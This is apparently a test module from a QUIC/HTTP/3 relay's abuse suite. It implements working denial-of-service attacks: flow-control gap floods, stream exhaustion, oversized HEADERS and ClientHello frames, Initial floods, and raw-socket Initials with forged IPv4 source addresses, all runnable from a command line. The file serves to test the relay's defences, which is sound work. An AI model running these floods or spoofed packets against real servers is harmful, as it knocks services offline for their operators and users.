"""Hostile QUIC peers for the abuse suite: what an unauthenticated attacker can send.

Each attack drives a real relay over real UDP, from aioquic's own client machinery
(so handshakes and packet protection are genuine) plus frames written by hand where a
well-behaved client would never send them. They run in the test's event loop, or as
``python -m tests.abuse.attack NAME ...`` from an attacker namespace.
"""

from __future__ import annotations

import argparse
import asyncio
import collections
import contextlib
import json
import os
import random
import socket
import ssl
import struct
import sys
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

from aioquic.buffer import encode_uint_var
from aioquic.h3.connection import H3_ALPN
from aioquic.quic.configuration import QuicConfiguration
from aioquic.quic.connection import QuicConnection
from aioquic.quic.crypto import CryptoPair
from aioquic.quic.events import ConnectionTerminated, HandshakeCompleted
from aioquic.quic.packet import QuicFrameType, QuicPacketType, QuicProtocolVersion
from aioquic.quic.packet_builder import QuicPacketBuilder, QuicPacketBuilderStop

Address = tuple[str, int]


class RawFrameConnection(QuicConnection):
    """A client QuicConnection that also puts hand-written frames in its 1-RTT packets.

    ``raw`` holds whole frames (a one-byte frame type, then the frame's fields).
    """

    def __init__(self, *args: Any, **kwargs: Any) -> None:
        super().__init__(*args, **kwargs)
        self.raw: collections.deque[bytes] = collections.deque()

    def _write_connection_limits(self, builder: Any, space: Any) -> None:
        while self.raw:
            frame = self.raw[0]
            try:
                buf = builder.start_frame(frame[0], capacity=len(frame))
            except QuicPacketBuilderStop:
                break
            buf.push_bytes(frame[1:])
            self.raw.popleft()
        super()._write_connection_limits(builder, space)


def stream_frame(stream_id: int, offset: int, data: bytes, fin: bool = False) -> bytes:
    """A STREAM frame with offset and length fields (RFC 9000 §19.8)."""
    kind = 0x08 | 0x04 | 0x02 | (0x01 if fin else 0)
    return (
        bytes((kind,))
        + encode_uint_var(stream_id)
        + encode_uint_var(offset)
        + encode_uint_var(len(data))
        + data
    )


@dataclass
class Peer:
    """A QUIC connection driven over its own UDP socket in the running event loop."""

    quic: QuicConnection
    sock: socket.socket
    addr: Address
    terminated: ConnectionTerminated | None = None
    handshake: bool = False
    _timer: asyncio.TimerHandle | None = None
    events: list[Any] = field(default_factory=list)

    def start(self) -> None:
        loop = asyncio.get_running_loop()
        loop.add_reader(self.sock.fileno(), self._readable)
        self.quic.connect(self.addr, now=time.monotonic())
        self.transmit()

    def _readable(self) -> None:
        while True:
            try:
                data, addr = self.sock.recvfrom(65535)
            except (BlockingIOError, InterruptedError):
                break
            except OSError:
                break
            self.quic.receive_datagram(data, addr, now=time.monotonic())
        self._events()
        self.transmit()

    def _events(self) -> None:
        while (event := self.quic.next_event()) is not None:
            if isinstance(event, HandshakeCompleted):
                self.handshake = True
            elif isinstance(event, ConnectionTerminated):
                self.terminated = event
            self.events.append(event)

    def transmit(self) -> None:
        for data, addr in self.quic.datagrams_to_send(now=time.monotonic()):
            with contextlib.suppress(OSError):
                self.sock.sendto(data, addr)
        if self._timer is not None:
            self._timer.cancel()
            self._timer = None
        at = self.quic.get_timer()
        if at is not None:
            loop = asyncio.get_running_loop()
            self._timer = loop.call_later(max(0.0, at - time.monotonic()), self._on_timer)

    def _on_timer(self) -> None:
        self._timer = None
        self.quic.handle_timer(now=time.monotonic())
        self._events()
        self.transmit()

    async def wait(self, cond: Callable[[], bool], timeout: float) -> bool:
        deadline = time.monotonic() + timeout
        while not cond():
            if time.monotonic() > deadline:
                return False
            await asyncio.sleep(0.005)
        return True

    def close(self) -> None:
        if self._timer is not None:
            self._timer.cancel()
        loop = asyncio.get_running_loop()
        loop.remove_reader(self.sock.fileno())
        self.sock.close()


def client_config(
    server_name: str,
    ca: str | None,
    certificate: str | None = None,
    private_key: str | None = None,
) -> QuicConfiguration:
    config = QuicConfiguration(
        alpn_protocols=H3_ALPN,
        is_client=True,
        server_name=server_name,
        max_datagram_frame_size=65535,
        idle_timeout=30.0,
    )
    if ca is not None:
        config.load_verify_locations(cafile=ca)
    else:
        config.verify_mode = ssl.CERT_NONE  # an attacker does not care who answers
    if certificate is not None:
        config.load_cert_chain(certificate, private_key)
    return config


def _socket(addr: Address, source: str | None = None) -> socket.socket:
    family = socket.AF_INET6 if ":" in addr[0] else socket.AF_INET
    sock = socket.socket(family, socket.SOCK_DGRAM)
    if source is not None:
        sock.bind((source, 0))
    sock.setblocking(False)
    return sock


async def connected(
    addr: Address, config: QuicConfiguration, timeout: float = 5.0
) -> Peer:
    """A RawFrameConnection with a completed handshake (raises if none in time)."""
    peer = Peer(RawFrameConnection(configuration=config), _socket(addr), addr)
    peer.start()
    if not await peer.wait(lambda: peer.handshake or peer.terminated is not None, timeout):
        peer.close()
        raise TimeoutError("no handshake")
    if not peer.handshake:
        peer.close()
        raise ConnectionError(f"relay closed the connection: {peer.terminated}")
    return peer


@dataclass
class GapFloodResult:
    rounds: int
    bytes_sent: int  # frame payload bytes the attacker sent
    claimed: int  # highest offsets summed: what a zero-filling receiver allocates
    terminated: int | None  # the relay's close code, if it closed the connection


async def gap_flood(
    peer: Peer, streams: int, rounds: int, rtt_wait: float = 0.05
) -> GapFloodResult:
    """1-byte STREAM frames at the far end of every stream's and the connection's
    credit, on ``streams`` bidirectional streams, for ``rounds`` round trips: a
    receiver that zero-fills to the highest offset and grows windows from it holds
    the sum of those offsets."""
    quic = peer.quic
    assert isinstance(quic, RawFrameConnection)
    opened: list[Any] = []
    for _ in range(streams):
        sid = quic.get_next_available_stream_id()
        opened.append(quic._get_or_create_stream_for_send(sid))
    highest = dict.fromkeys((s.stream_id for s in opened), 0)
    sent = 0
    done = 0
    for _ in range(rounds):
        if peer.terminated is not None:
            break
        room = quic._remote_max_data - sum(highest.values())
        for stream in opened:
            if room <= 0:
                break
            credit = stream.max_stream_data_remote
            end = min(credit, highest[stream.stream_id] + room)
            if end <= highest[stream.stream_id]:
                continue
            quic.raw.append(stream_frame(stream.stream_id, end - 1, b"\0"))
            room -= end - highest[stream.stream_id]
            highest[stream.stream_id] = end
            sent += 1
        peer.transmit()
        done += 1
        await asyncio.sleep(rtt_wait)
    code = peer.terminated.error_code if peer.terminated is not None else None
    return GapFloodResult(done, sent, sum(highest.values()), code)


async def many_streams(peer: Peer, streams: int) -> int | None:
    """Open ``streams`` request streams with a byte each; the relay's close code."""
    quic = peer.quic
    assert isinstance(quic, RawFrameConnection)
    for i in range(streams):
        quic.raw.append(stream_frame(4 * i, 0, b"\x01"))
    peer.transmit()
    await peer.wait(lambda: peer.terminated is not None, 2.0)
    return peer.terminated.error_code if peer.terminated is not None else None


async def incomplete_headers(peer: Peer, claimed: int, send: int, chunk: int = 1000) -> int | None:
    """A request stream whose HEADERS frame claims ``claimed`` bytes, of which ``send``
    arrive in order (so QUIC delivers them): HTTP/3 keeps them until the frame is
    whole. Returns the relay's close code."""
    quic = peer.quic
    assert isinstance(quic, RawFrameConnection)
    sid = quic.get_next_available_stream_id()
    stream = quic._get_or_create_stream_for_send(sid)
    header = encode_uint_var(0x01) + encode_uint_var(claimed)
    offset = 0
    quic.raw.append(stream_frame(sid, 0, header))
    offset = len(header)
    while offset - len(header) < send and peer.terminated is None:
        credit = min(stream.max_stream_data_remote, quic._remote_max_data)
        if offset >= credit:
            await asyncio.sleep(0.02)  # wait for credit (MAX_STREAM_DATA / MAX_DATA)
            if offset >= min(stream.max_stream_data_remote, quic._remote_max_data):
                break
            continue
        n = min(chunk, credit - offset)
        quic.raw.append(stream_frame(sid, offset, b"\0" * n))
        offset += n
        peer.transmit()
        await asyncio.sleep(0)
    await peer.wait(lambda: peer.terminated is not None, 2.0)
    return peer.terminated.error_code if peer.terminated is not None else None


def crypto_initial(
    dcid: bytes, scid: bytes, offset: int, data: bytes, packet_number: int = 0
) -> bytes:
    """A client Initial (padded to 1200 bytes) carrying one CRYPTO frame."""
    crypto = CryptoPair()
    version = QuicProtocolVersion.VERSION_1
    crypto.setup_initial(cid=dcid, is_client=True, version=version)
    builder = QuicPacketBuilder(
        host_cid=scid,
        peer_cid=dcid,
        version=version,
        is_client=True,
        max_datagram_size=1200,
        packet_number=packet_number,
    )
    builder.start_packet(QuicPacketType.INITIAL, crypto)
    buf = builder.start_frame(QuicFrameType.CRYPTO, capacity=len(data) + 16)
    buf.push_uint_var(offset)
    buf.push_uint_var(len(data))
    buf.push_bytes(data)
    datagrams, _ = builder.flush()
    return b"".join(datagrams)


async def huge_client_hello(addr: Address, total: int, source: str | None = None) -> int:
    """Initials whose CRYPTO stream starts a ClientHello claiming 16 MiB, continued
    for ``total`` bytes; returns how many datagrams were sent (the relay may stop
    answering at any point: nothing comes back that we need)."""
    dcid, scid = os.urandom(8), os.urandom(8)
    sock = _socket(addr, source)
    chunk = 1000
    first = bytes((1,)) + (0xFFFFFF).to_bytes(3, "big")
    sent = 0
    offset = 0
    try:
        while offset < total:
            data = first + os.urandom(chunk - len(first)) if offset == 0 else os.urandom(chunk)
            try:
                sock.sendto(crypto_initial(dcid, scid, offset, data, sent), addr)
            except BlockingIOError:
                await asyncio.sleep(0.001)
                continue
            offset += len(data)
            sent += 1
            if sent % 32 == 0:
                await asyncio.sleep(0.001)
    finally:
        sock.close()
    return sent


def client_hellos(server_name: str, count: int) -> list[bytes]:
    """``count`` genuine first Initials (each a new connection with its own DCID)."""
    out = []
    config = QuicConfiguration(alpn_protocols=H3_ALPN, is_client=True, server_name=server_name)
    for _ in range(count):
        quic = QuicConnection(configuration=config)
        quic.connect(("0.0.0.0", 0), now=time.monotonic())
        out.append(b"".join(d for d, _ in quic.datagrams_to_send(now=time.monotonic())))
    return out


@dataclass
class FloodResult:
    sent: int
    replies: int
    retries: int  # replies that were Retry packets


async def initial_flood(
    addr: Address, hellos: list[bytes], sources: list[str], listen: float = 0.3
) -> FloodResult:
    """Send every Initial of ``hellos`` from sources round-robin (each a local address
    the attacker never completes a handshake from), count what came back."""
    socks = [_socket(addr, s) for s in sources]
    replies = retries = 0
    try:
        for i, hello in enumerate(hellos):
            with contextlib.suppress(OSError):
                socks[i % len(socks)].sendto(hello, addr)
            if i % 16 == 15:
                await asyncio.sleep(0.001)
        deadline = time.monotonic() + listen
        while time.monotonic() < deadline:
            got = False
            for sock in socks:
                try:
                    data, _ = sock.recvfrom(65535)
                except (BlockingIOError, InterruptedError):
                    continue
                got = True
                replies += 1
                # Long header, type bits 11 = Retry (RFC 9000 §17.2.5).
                if data and data[0] & 0xF0 == 0xF0:
                    retries += 1
            if not got:
                await asyncio.sleep(0.005)
    finally:
        for sock in socks:
            sock.close()
    return FloodResult(len(hellos), replies, retries)


def raw_spoofed_initials(
    dest: Address, hellos: list[bytes], source_net: str, source_port: int = 40000
) -> int:
    """Send Initials with forged IPv4 source addresses (raw socket, IP_HDRINCL) drawn
    from ``source_net``: replies go to addresses nobody holds. Returns the count."""
    import ipaddress

    net = ipaddress.ip_network(source_net)
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    dst = socket.inet_aton(dest[0])
    sent = 0
    try:
        for hello in hellos:
            src_ip = net[random.randrange(1, net.num_addresses - 1)]
            src = src_ip.packed
            udp_len = 8 + len(hello)
            udp = struct.pack("!HHHH", source_port + sent % 1000, dest[1], udp_len, 0) + hello
            ip = struct.pack(
                "!BBHHHBBH4s4s", 0x45, 0, 20 + udp_len, sent & 0xFFFF, 0, 64, 17, 0, src, dst
            )
            sock.sendto(ip + udp, (dest[0], 0))
            sent += 1
    finally:
        sock.close()
    return sent


def main(argv: list[str] | None = None) -> int:
    """``python -m tests.abuse.attack NAME --relay HOST:PORT ...``: one attack, a JSON
    line with its result on stdout."""
    parser = argparse.ArgumentParser(prog="python -m tests.abuse.attack")
    parser.add_argument("attack", choices=["gap", "streams", "headers", "hello", "flood"])
    parser.add_argument("--relay", required=True)
    parser.add_argument("--server-name", default="relay.example")
    parser.add_argument("--ca")
    parser.add_argument("--connections", type=int, default=1)
    parser.add_argument("--streams", type=int, default=64)
    parser.add_argument("--rounds", type=int, default=8)
    parser.add_argument("--bytes", type=int, default=4 * 1024 * 1024)
    parser.add_argument("--count", type=int, default=1000)
    parser.add_argument("--spoof-net", default="198.18.64.0/18")
    args = parser.parse_args(argv)
    host, _, port = args.relay.rpartition(":")
    addr = (host.strip("[]"), int(port))

    async def run() -> dict[str, Any]:
        if args.attack == "flood":
            hellos = client_hellos(args.server_name, args.count)
            began = time.monotonic()
            sent = raw_spoofed_initials(addr, hellos, args.spoof_net)
            return {"sent": sent, "seconds": time.monotonic() - began}
        if args.attack == "hello":
            sent = await asyncio.gather(
                *(huge_client_hello(addr, args.bytes) for _ in range(args.connections))
            )
            return {"datagrams": sum(sent)}
        config = client_config(args.server_name, args.ca)
        peers = await asyncio.gather(*(connected(addr, config) for _ in range(args.connections)))
        try:
            if args.attack == "gap":
                results = await asyncio.gather(
                    *(gap_flood(p, args.streams, args.rounds) for p in peers)
                )
                return {
                    "claimed": sum(r.claimed for r in results),
                    "frames": sum(r.bytes_sent for r in results),
                    "closed": [r.terminated for r in results],
                }
            if args.attack == "streams":
                codes = await asyncio.gather(*(many_streams(p, args.streams) for p in peers))
                return {"closed": list(codes)}
            codes = await asyncio.gather(
                *(incomplete_headers(p, 1 << 30, args.bytes) for p in peers)
            )
            return {"closed": list(codes)}
        finally:
            for p in peers:
                p.close()

    print(json.dumps(asyncio.run(run())))
    return 0


if __name__ == "__main__":
    sys.exit(main())
